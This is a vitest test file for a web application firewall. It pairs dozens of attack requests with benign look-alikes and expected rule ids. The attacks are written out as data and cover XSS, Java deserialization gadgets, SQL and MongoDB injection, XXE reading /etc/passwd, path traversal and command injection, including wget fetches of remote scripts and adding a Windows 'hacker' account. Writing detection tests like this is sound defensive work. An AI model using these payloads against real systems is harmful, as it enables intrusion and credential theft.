import { describe, expect, it } from 'vitest';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { inspectRequest } from '../../../lambdas/core/waf/index.ts';
import { BROWSER_HEADERS, form, get, json, post, waf } from './helpers.ts';

const balanced = waf();

/** [family, attack request, rule id expected to fire, a benign look-alike that must be allowed] */
const FAMILIES: Array<[string, EdgeRequest, string, EdgeRequest]> = [
  [
    'a context-closing markup polyglot',
    json({ comment: '</svg>//["\'`-->]]>]</div>' }),
    'XSS-141',
    json({ comment: 'Use <!-- comments --> in HTML and <![CDATA[ … ]]> in XML, "quoted" as \'usual\'' }),
  ],
  [
    'a link to a host spelt as a dword',
    get('/x?q=%3CA%20HREF%3D%22http%3A%2F%2F1113982867%2F%22%3EXSS%3C%2FA%3E'),
    'XSS-142',
    get('/x?q=%3Ca%20href%3D%22https%3A%2F%2F203.0.113.7%2Fdocs%22%3Edocs%3C%2Fa%3E'),
  ],
  [
    'a link to a host spelt as hex octets',
    json({ bio: '<a href="http://0x42.0x0000066.0x7.0x93/">x</a>' }),
    'XSS-142',
    json({ bio: '<a href="http://example.com/0x42">x</a>' }),
  ],
  [
    'a Java gadget class name',
    form('payload=org.apache.commons.collections.functors.InvokerTransformer'),
    'JAVA-130',
    form('payload=A%20transformer%20for%20closures%20and%20factories'),
  ],
  [
    'a dangerous Java namespace given as a plain value',
    json({ type: 'com.opensymphony.xwork2.ActionContext' }),
    'JAVA-110',
    json({ type: 'com.example.shop.Order' }),
  ],
  [
    'a base64 fragment of a gadget class name',
    get('/api?state=aW52b2tlcnRyYW5zZm9ybWVy'),
    'JAVA-140',
    get('/api?state=eyJjYXJ0IjoiMTIzIn0'),
  ],
  [
    'a base64 Java serialized object',
    form('data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
    'JAVA-120',
    form('data=r0OABxsyABF'),
  ],
  [
    'a Windows FOR loop',
    get('/run?cmd=for%20/f%20%22tokens=1%22%20%25i%20in%20(%27whoami%27)%20do%20echo%20%25i'),
    'RCE-190',
    get('/search?q=for%20each%20item%20in%20(the%20cart)%20do%20checkout'),
  ],
  [
    'Perl code interpolation',
    get("/x?name=@%7B%5Bsystem%20'id'%5D%7D"),
    'RCE-191',
    get('/x?email=someone@example.com'),
  ],
  [
    'a command run through a wrapper',
    get('/x?cmd=nohup%20wget%20http://203.0.113.9/x.sh'),
    'RCE-151',
    get('/x?q=time%20to%20leave'),
  ],
  [
    'a command word split by empty expansions',
    get('/x?host=example.com;c$@at%20/et$@c/pas$@swd'),
    'RCE-100',
    get('/x?price=$5%20or%20$10'),
  ],
  [
    'a numeric comparison closing a condition',
    form('id=5%20AND%202771=1709)'),
    'SQLI-171',
    form('note=between%201%20and%202'),
  ],
  ['a PostgreSQL cast after a string', get("/x?id=1'::int"), 'SQLI-175', get('/x?time=12:30:45')],
  ['a MongoDB operator in a parameter name', get('/users?password[$ne]=x'), 'SQLI-200', get('/users?tags[]=x')],
  [
    'a MongoDB operator as a JSON key',
    json({ user: 'admin', password: { $gt: '' } }),
    'SQLI-200',
    json({ price: { currency: 'USD', amount: 5 } }),
  ],
  ['a PHP decoding function', get('/x?c=gzinflate%20/*x*/%20(base64)'), 'PHP-140', get('/x?q=inflate%20(gz)')],
  ['a PHP variable function call', get('/x?f=$a(1)'), 'PHP-150', get('/x?f=costs%20$5%20(incl.%20tax)')],
  [
    'a server-side JavaScript constructor escape',
    get('/x?v=this.constructor.constructor(%22return%20process%22)()'),
    'NODE-130',
    get('/x?v=the%20constructor%20of%20the%20class'),
  ],
  [
    'a URL to an octal-encoded IP address',
    get('/fetch?url=http://0251.0376.0251.0376/'),
    'RFI-100',
    get('/fetch?url=https://shop.example.com/'),
  ],
  [
    'an XML external entity',
    post('application/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    'LFI-150',
    post('application/xml', '<?xml version="1.0"?><order><id>1</id></order>'),
  ],
  [
    'a base64-encoded traversal',
    get('/x?file=Li4vLi4vZXRjL3Bhc3N3ZA%3D%3D'),
    'LFI-151',
    get('/x?file=UmVwb3J0LnBkZg%3D%3D'),
  ],
  [
    'traversal through IIS-style overlong bytes',
    get('/x?file=%c0%2e%c0%2e%c1%1c%c0%2e%c0%2e%c1%1cboot.ini'),
    'LFI-101',
    get('/x?name=Jos%C3%A9'),
  ],
  [
    'a framework session cookie name as a query parameter',
    get('/login?connect.sid=s:abc'),
    'SESS-110',
    get('/login?next=/account'),
  ],
  ['a hidden file probe', get('/.env'), 'SCAN-220', get('/.well-known/security.txt')],
  [
    'an executable upload announced in X-Filename',
    get('/upload', { ...BROWSER_HEADERS, 'x-filename': 'shell.php' }),
    'PHP-160',
    get('/upload', { ...BROWSER_HEADERS, 'x-filename': 'report.pdf' }),
  ],
  [
    'a Set-Cookie smuggled into a value',
    get('/cart?item=3Set-cookie%3A%20Tamper%3D1041264011025374727'),
    'SESS-120',
    get('/cart?item=set%20a%20cookie%20preference'),
  ],
  ['a quote glued to a number', get('/item?id=100%27INJECTED'), 'SQLI-302', get("/item?name=O'Neill")],
  ['a pipe tacked onto a word', get('/pay?mode=insert%7C'), 'RCE-300', get('/pay?mode=insert')],
  ['a number with a trailing slash', get('/pay?price=85%2F'), 'SQLI-303', get('/pay?date=2024%2F05%2F01')],
  ['a double-encoded quote', get('/item?id=1%2527'), 'SQLI-301', get('/r?to=%252Fhome%253Fa%253D1')],
  [
    'a Windows account created after a separator',
    form('host=127.0.0.1%20%26%20net%20user%20hacker%20Passw0rd%20%2Fadd'),
    'RCE-141',
    form('note=Ask%20the%20net%20user%20group%20to%20add%20me'),
  ],
  [
    'a firewall switched off through netsh',
    get('/ping?host=%3B%20netsh%20firewall%20set%20opmode%20disable'),
    'RCE-141',
    get('/search?q=netsh%20firewall%20tutorial'),
  ],
  [
    'a value that is only a reconnaissance command',
    get('/api?cmd=ifconfig'),
    'RCE-152',
    get('/api?topic=configuration'),
  ],
  [
    'a backtick substitution nested in $( )',
    json({ host: '$(`wget https://evil.example/x.sh`)' }),
    'RCE-110',
    json({ price: '$(12.50) with `code` in it' }),
  ],
  [
    'a value that selects the database version',
    get('/items?q=select%20version()%3B'),
    'SQLI-132',
    get('/items?q=select%20a%20version%20of%20the%20app'),
  ],
  [
    'a php://filter iconv chain link given on its own',
    json({ page: 'convert.iconv.IBM278.IBM861' }),
    'LFI-120',
    json({ page: 'convert.currency.eur.usd' }),
  ],
  [
    'a parameter that names a hidden credentials file under a directory',
    get('/view?file=members%2F.htpasswd'),
    'LFI-130',
    get('/view?file=members%2Fprofile.html'),
  ],
];

describe('WAF engine: signature families at sensitivity 70', () => {
  it.each(FAMILIES)('stops %s', (_name, attack, ruleId) => {
    // Act
    const decision = inspectRequest(balanced, attack);
    // Assess
    expect(decision.ruleIds).toContain(ruleId);
    expect(decision.action).not.toBe('allow');
  });

  it.each(FAMILIES)('allows the look-alike of %s', (_name, _attack, _ruleId, benign) => {
    // Act
    const decision = inspectRequest(balanced, benign);
    // Assess
    expect(decision.action).toBe('allow');
    expect(decision.ruleIds).toEqual([]);
  });

  it('does not treat apostrophes and punctuation in prose as probes', () => {
    // Prepare
    const prose = json({ review: "It's great; I'd buy again | 5/5 stars (really)", name: "D'Arcy" });
    // Act
    const decision = inspectRequest(balanced, prose);
    // Assess
    expect(decision.action).toBe('allow');
  });
});
